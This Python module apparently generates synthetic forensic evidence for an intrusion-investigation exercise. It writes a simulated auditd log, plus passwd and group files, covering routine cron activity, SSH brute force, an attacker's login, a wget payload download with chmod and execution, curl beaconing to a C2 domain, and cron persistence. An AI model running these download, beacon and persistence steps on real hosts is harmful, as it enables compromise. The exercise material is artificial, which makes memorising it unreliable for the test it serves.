"""The Linux host's evidence: a raw auditd log (name_format = hostname, so every record
starts with node=), rotated into audit.log.2.gz (oldest, compressed), audit.log.1 and
audit.log, and the host's /etc/passwd and /etc/group copied off it with the logs.

auditd's own rules are followed: values with spaces, quotes or control characters are
hex-encoded, 4294967295 means unset, one event is the records sharing
audit(TIME:SERIAL). As in real logs, the attacker's first command straddles the
rotation (its first records in audit.log.1, the rest in audit.log) and the wget
event's last two records arrive after the next event's.
"""
import gzip
import os
import re
import time

from . import story as S

UNSET = 4294967295


def hexs(s):
    return s.encode().hex().upper()


def audit_value(s):
    """auditd's rule: quote plain text, hex-encode what has spaces, quotes or controls."""
    needs_hex = any(c in s for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in s)
    return hexs(s) if needs_hex else f'"{s}"'


class Log:
    """Events as (time, [record bodies]); serials are given in time order when written."""

    def __init__(self):
        self.events = []   # [time, order, [(type, body)], late]

    def add(self, t, records, late=0):
        self.events.append([round(t, 3), len(self.events), records, late])

    def ssh_auth(self, t, addr, acct, ok, pid):
        res = "success" if ok else "failed"
        self.add(t, [("USER_AUTH",
                      f"pid={pid} uid=0 auid={UNSET} ses={UNSET} subj==unconfined msg='op=PAM:authentication "
                      f'acct="{acct}" exe="/usr/sbin/sshd" hostname={addr} addr={addr} terminal=ssh res={res}\'')])

    def ssh_login(self, t, addr, uid, ses, pid, ok=True):
        res = "success" if ok else "failed"
        self.add(t, [("USER_LOGIN",
                      f"pid={pid} uid=0 auid={uid if ok else UNSET} ses={ses if ok else UNSET} subj==unconfined "
                      f"msg='op=login id={uid if ok else UNSET} exe=\"/usr/sbin/sshd\" hostname={addr} addr={addr} "
                      f"terminal=/dev/pts/{1 if uid == S.ADMIN_UID else 0} res={res}'")])

    def session_start(self, t, pid, uid, ses):
        """pam_loginuid's LOGIN record: cron and sshd give each session its own ses."""
        self.add(t, [("LOGIN", f"pid={pid} uid=0 subj==unconfined old-auid={UNSET} auid={uid} tty=(none) "
                               f"old-ses={UNSET} ses={ses} res=1")])

    def user_cmd(self, t, pid, uid, ses, cwd, cmd, terminal):
        self.add(t, [("USER_CMD", f"pid={pid} uid={uid} auid={uid} ses={ses} subj==unconfined "
                                  f"msg='cwd=\"{cwd}\" cmd={hexs(cmd)} terminal={terminal} res=success'")])

    def execve(self, t, argv, exe, pid, ppid, uid=0, auid=UNSET, ses=UNSET, cwd="/", tty="(none)", key="exec",
               euid=None, late=0):
        euid = uid if euid is None else euid
        comm = os.path.basename(exe)[:15]
        records = [
            ("SYSCALL", f"arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2a0 a1=55d1c2b8 a2=55d1c2d0 a3=0 "
                        f"items=2 ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={euid} suid={euid} "
                        f"fsuid={euid} egid={uid} sgid={uid} fsgid={uid} tty={tty} ses={ses} comm=\"{comm}\" "
                        f"exe=\"{exe}\" subj==unconfined key=\"{key}\""),
            ("EXECVE", f"argc={len(argv)} " + " ".join(f"a{i}={audit_value(a)}" for i, a in enumerate(argv))),
            ("CWD", f"cwd={audit_value(cwd)}"),
            ("PATH", f"item=0 name={audit_value(exe)} inode={1000 + pid % 977} dev=08:01 mode=0100755 ouid=0 "
                     "ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"),
            ("PATH", "item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=1582 dev=08:01 mode=0100755 ouid=0 "
                     "ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"),
            ("PROCTITLE", f"proctitle={hexs(chr(0).join(argv))}"),
        ]
        self.add(t, records, late)


class Pids:
    def __init__(self, start):
        self.next = start

    def __call__(self, step=1):
        self.next += step
        return self.next


def background(log, rng, pids, sessions):
    """What the host does every day: the Azure agent's firewall checks, monitoring,
    sysstat and hourly cron jobs. About 2,600 processes over six hours."""
    waagent, omsagent, cron = 1350, 1422, 1200
    t = S.T_START + 3.1
    while t < S.T_END:  # waagent checks its firewall rules every 30 s: three processes each
        p = pids()
        log.execve(t, ["iptables", "--version"], "/sbin/xtables-multi", p, waagent)
        sh = pids()
        rule = "iptables -w -t security -C OUTPUT -d 168.63.129.16 -p tcp -m conntrack --ctstate INVALID,NEW -j DROP"
        log.execve(t + 0.012, ["/bin/sh", "-c", rule], "/bin/dash", sh, waagent)
        log.execve(t + 0.015, rule.split(), "/sbin/xtables-multi", pids(), sh)
        t += 30 + rng.uniform(-0.4, 0.4)
    t = S.T_START + 41.7
    while t < S.T_END:  # the monitoring agent every minute
        log.execve(t, ["/bin/sh", "-c", "/opt/omi/bin/omicli iv root/scx { SCX_OperatingSystem } ExecuteShellCommand "
                                        "{ command 'df -P' timeout 30 }"], "/bin/dash", pids(), omsagent)
        # it also watches its workers (their pids change as they restart)...
        log.execve(t + 1.3, ["ps", "-p", str(rng.randrange(1500, 32000)), "-o", "pid=,etime=,rss="], "/bin/ps", pids(),
                   omsagent)
        # ...and logs a heartbeat every five minutes
        if int(t - S.T_START) // 60 % 5 == 0:
            stamp = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(int(t)))
            log.execve(t + 2.1, ["logger", "-t", "omsagent", "heartbeat", stamp, f"seq={int(t - S.T_START) // 300}"],
                       "/usr/bin/logger", pids(), omsagent)
        t += 60 + rng.uniform(-0.2, 0.2)
    t = S.T_START + 1.2
    minute = 0
    while t < S.T_END:  # cron: sysstat every 10 minutes, the hourly jobs on the hour
        jobs = []
        if minute % 10 == 0:
            jobs.append("command -v debian-sa1 > /dev/null && debian-sa1 1 1")
        if minute % 60 == 17:
            jobs.append("cd / && run-parts --report /etc/cron.hourly")
        for job in jobs:
            ses = sessions()
            child = pids()
            log.session_start(t, child, 0, ses)
            sh = pids()
            log.execve(t + 0.004, ["/bin/sh", "-c", job], "/bin/dash", sh, child, 0, 0, ses, "/root")
            if "sa1" in job:
                log.execve(t + 0.011, ["debian-sa1", "1", "1"], "/usr/lib/sysstat/debian-sa1", pids(), sh, 0, 0, ses,
                           "/root")
                log.execve(t + 0.02, ["/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"],
                           "/usr/lib/sysstat/sadc", pids(), sh, 0, 0, ses, "/root")
            else:
                log.execve(t + 0.01, ["run-parts", "--report", "/etc/cron.hourly"], "/bin/run-parts", pids(), sh, 0, 0,
                           ses, "/")
        minute += 1
        t += 60


def brute_force(log, rng, pids, flows):
    """Password guessing: bursts from the three scanners, a slow trickle from the attacker."""
    users = ["root", "admin", "oracle", "test", "ubuntu", "postgres", "git", "dbadmin", "user", "ftp"]
    t = S.BRUTE_START
    while t < S.LOGIN_TIME - 30:
        addr = rng.choice(S.SCANNERS) if rng.random() < 0.86 else S.ATTACKER
        pid = pids()
        log.ssh_auth(t, addr, rng.choice(users), False, pid)
        flows.add(t - 0.8, addr, S.LINUX_PRIVATE_IP, 22, duration=rng.uniform(1.5, 3.5), bytes_out=2200, bytes_in=2900)
        if rng.random() < 0.1:  # sshd also closes the connection with a failed login record
            log.ssh_login(t + 0.002, addr, UNSET, UNSET, pid, ok=False)
        t += rng.uniform(1.5, 6.5)


def attack(log, rng, pids, sessions, flows):
    """The attacker's login as dbadmin and what the session ran; then cron runs the
    installed script every five minutes."""
    uid, ses = S.LINUX_UID, sessions()
    t = S.LOGIN_TIME
    sshd = pids()
    log.ssh_auth(t - 0.204, S.ATTACKER, S.LINUX_USER, True, sshd)
    log.session_start(t - 0.05, sshd, uid, ses)
    log.ssh_login(t, S.ATTACKER, uid, ses, sshd)
    flows.add(t - 1.2, S.ATTACKER, S.LINUX_PRIVATE_IP, 22, duration=441.7, bytes_out=48210, bytes_in=193344)
    shell = pids(2)
    home = f"/home/{S.LINUX_USER}"
    log.execve(t + 0.3, ["-bash"], "/bin/bash", shell, sshd + 1, uid, uid, ses, home, "pts0")
    steps = [
        (60, ["id"], "/usr/bin/id", []),
        (71, ["uname", "-a"], "/bin/uname", []),
        (85, ["cat", "/etc/passwd"], "/bin/cat", []),
        (102, ["mail"], "/usr/bin/mail", []),
        (130, ["wget", S.PAYLOAD_URL, "-O", S.PAYLOAD_PATH], "/usr/bin/wget", []),
        (151, ["chmod", "+x", S.PAYLOAD_PATH], "/bin/chmod", []),
        (163, ["/bin/bash", S.PAYLOAD_PATH], "/bin/bash",
         [(0.05, ["uname", "-m"], "/bin/uname"), (0.09, ["nproc"], "/usr/bin/nproc"),
          (0.2, ["curl", "-s", f"http://{S.C2_DOMAIN}/c?h={S.LINUX_HOST.lower()}"], "/usr/bin/curl")]),
        (205, ["crontab", "-l"], "/usr/bin/crontab", []),
        (230, ["bash", "-c", f"(crontab -l; echo '{S.CRON_LINE}') | crontab -"], "/bin/bash",
         [(0.01, ["crontab", "-l"], "/usr/bin/crontab"), (0.02, ["crontab", "-"], "/usr/bin/crontab")]),
        (300, ["ls", "-la", "/tmp"], "/bin/ls", []),
    ]
    for offset, argv, exe, children in steps:
        pid = pids(2)
        et = t + offset + rng.uniform(0, 0.9)
        log.execve(et, argv, exe, pid, shell, uid, uid, ses, home, "pts0", late=1 if argv[0] == "wget" else 0)
        if argv[0] == "wget":
            flows.add(et + 0.02, S.LINUX_PRIVATE_IP, S.ATTACKER, 80, duration=0.9, bytes_out=420, bytes_in=6214)
        for dt, cargv, cexe in children:
            log.execve(et + dt, cargv, cexe, pids(), pid, uid, uid, ses, home, "pts0")
            if cargv[0] == "curl":
                flows.add(et + dt + 0.01, S.LINUX_PRIVATE_IP, S.C2_IPS[0], 80, duration=0.4, bytes_out=310, bytes_in=520)
    # cron runs the script as dbadmin every five minutes, each run a session of its own.
    t = S.LOGIN_TIME - S.LOGIN_TIME % 300 + 600 + 0.93   # 15:35:00.93
    while t < S.T_END - 300:
        cses = sessions()
        child = pids()
        log.session_start(t, child, uid, cses)
        sh = pids()
        log.execve(t + 0.004, ["/bin/sh", "-c", S.CRON_LINE.split(" ", 5)[5]], "/bin/dash", sh, child, uid, uid, cses,
                   home)
        bash = pids()
        log.execve(t + 0.008, ["/bin/bash", S.PAYLOAD_PATH], "/bin/bash", bash, sh, uid, uid, cses, home)
        log.execve(t + 0.2, ["curl", "-s", f"http://{S.C2_DOMAIN}/c?h={S.LINUX_HOST.lower()}"], "/usr/bin/curl",
                   pids(), bash, uid, uid, cses, home)
        flows.add(t + 0.21, S.LINUX_PRIVATE_IP, S.C2_IPS[0], 80, duration=0.4, bytes_out=310, bytes_in=520)
        t += 300


def admin(log, rng, pids, sessions, flows):
    """The admin's routine check from inside the network, with a sudo."""
    t = S.LOGIN_TIME + 2400.1
    uid, ses = S.ADMIN_UID, sessions()
    sshd = pids(5)
    log.ssh_auth(t - 0.2, S.ADMIN_IP, S.ADMIN_USER, True, sshd)
    log.session_start(t - 0.05, sshd, uid, ses)
    log.ssh_login(t, S.ADMIN_IP, uid, ses, sshd)
    flows.add(t - 1.0, S.ADMIN_IP, S.LINUX_PRIVATE_IP, 22, duration=64.2, bytes_out=9100, bytes_in=30200)
    shell = pids(2)
    home = f"/home/{S.ADMIN_USER}"
    log.execve(t + 0.3, ["-bash"], "/bin/bash", shell, sshd + 1, uid, uid, ses, home, "pts1")
    sudo = pids()
    log.execve(t + 12.2, ["sudo", "systemctl", "status", "ssh"], "/usr/bin/sudo", sudo, shell, uid, uid, ses, home,
               "pts1", euid=0)
    log.user_cmd(t + 12.25, sudo, uid, ses, home, "systemctl status ssh", "pts/1")
    log.execve(t + 12.3, ["systemctl", "status", "ssh"], "/bin/systemctl", pids(), sudo, 0, uid, ses, home, "pts1")


def renumber(events, rng):
    """Pids and sessions in the order they first appear, as a kernel hands them out (the
    parts above were generated one after the other, not in time order)."""
    ses_map, pid_map = {}, {}
    next_pid = [S.FIRST_PID]

    def ses(m):
        n = int(m.group(2))
        if n == UNSET:
            return m.group(0)
        return f"{m.group(1)}ses={ses_map.setdefault(n, len(ses_map) + 3)}"

    def pid(m):
        n = int(m.group(2))
        if n < S.FIRST_PID:  # daemons started at boot keep their pids
            return m.group(0)
        if n not in pid_map:
            next_pid[0] += rng.choice((1, 1, 1, 2, 3))
            pid_map[n] = next_pid[0]
        return f"{m.group(1)}pid={pid_map[n]}"

    for e in events:
        e[2] = [(rtype, PID.sub(pid, SES.sub(ses, body))) for rtype, body in e[2]]


SES = re.compile(r"(^| )ses=(\d+)")
PID = re.compile(r"(^| |p)pid=(\d+)")


def write(out, rng, flows):
    log = Log()
    pids = Pids(S.FIRST_PID + 1000000)
    sessions = Pids(2)
    # The day runs in time order, so the pids and sessions of each part are allocated in
    # the order they happen: background first (its pids are interleaved by time below).
    background(log, rng, pids, sessions)
    brute_force(log, rng, pids, flows)
    attack(log, rng, pids, sessions, flows)
    admin(log, rng, pids, sessions, flows)

    log.events.sort(key=lambda e: (e[0], e[1]))
    renumber(log.events, rng)
    lines, held = [], []
    serial = 7400
    for t, _, records, late in log.events:
        serial += 1
        stamp = f"audit({t:.3f}:{serial})"
        text = [f"node={S.LINUX_HOST} type={rtype} msg={stamp}: {body}" for rtype, body in records]
        if late:  # the last two records arrive after the next event's
            lines.extend(text[:-2])
            held = text[-2:]
            continue
        lines.extend(text)
        lines.extend(held)
        held = []
    lines.extend(held)

    d = os.path.join(out, "audit")
    os.makedirs(d, exist_ok=True)
    lines = [l + "\n" for l in lines]
    # Rotation: the oldest part compressed; the live file starts in the middle of the
    # attacker's first command (its SYSCALL and EXECVE records are in .1).
    split = next(i for i, l in enumerate(lines) if " type=EXECVE " in l and 'a0="id"' in l) + 1
    first = split // 2
    with open(os.path.join(d, "audit.log.2.gz"), "wb") as raw:
        # mtime=0 and no file name: the same bytes on every run
        with gzip.GzipFile(fileobj=raw, mode="wb", mtime=0, filename="") as gz:
            gz.write("".join(lines[:first]).encode())
    with open(os.path.join(d, "audit.log.1"), "w", newline="\n") as f:
        f.write("".join(lines[first:split]))
    with open(os.path.join(d, "audit.log"), "w", newline="\n") as f:
        f.write("".join(lines[split:]))

    e = os.path.join(out, "etc")
    os.makedirs(e, exist_ok=True)
    with open(os.path.join(e, "passwd"), "w", newline="\n") as f:
        f.write("root:x:0:0:root:/root:/bin/bash\n"
                "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin\n"
                f"{S.ADMIN_USER}:x:{S.ADMIN_UID}:{S.ADMIN_UID}:Alice (admin),,,:/home/{S.ADMIN_USER}:/bin/bash\n"
                f"{S.LINUX_USER}:x:{S.LINUX_UID}:{S.LINUX_UID}:Database admin,,,:/home/{S.LINUX_USER}:/bin/bash\n")
    with open(os.path.join(e, "group"), "w", newline="\n") as f:
        f.write(f"root:x:0:\nsudo:x:27:{S.ADMIN_USER}\n{S.ADMIN_USER}:x:{S.ADMIN_UID}:\n"
                f"{S.LINUX_USER}:x:{S.LINUX_UID}:\n")
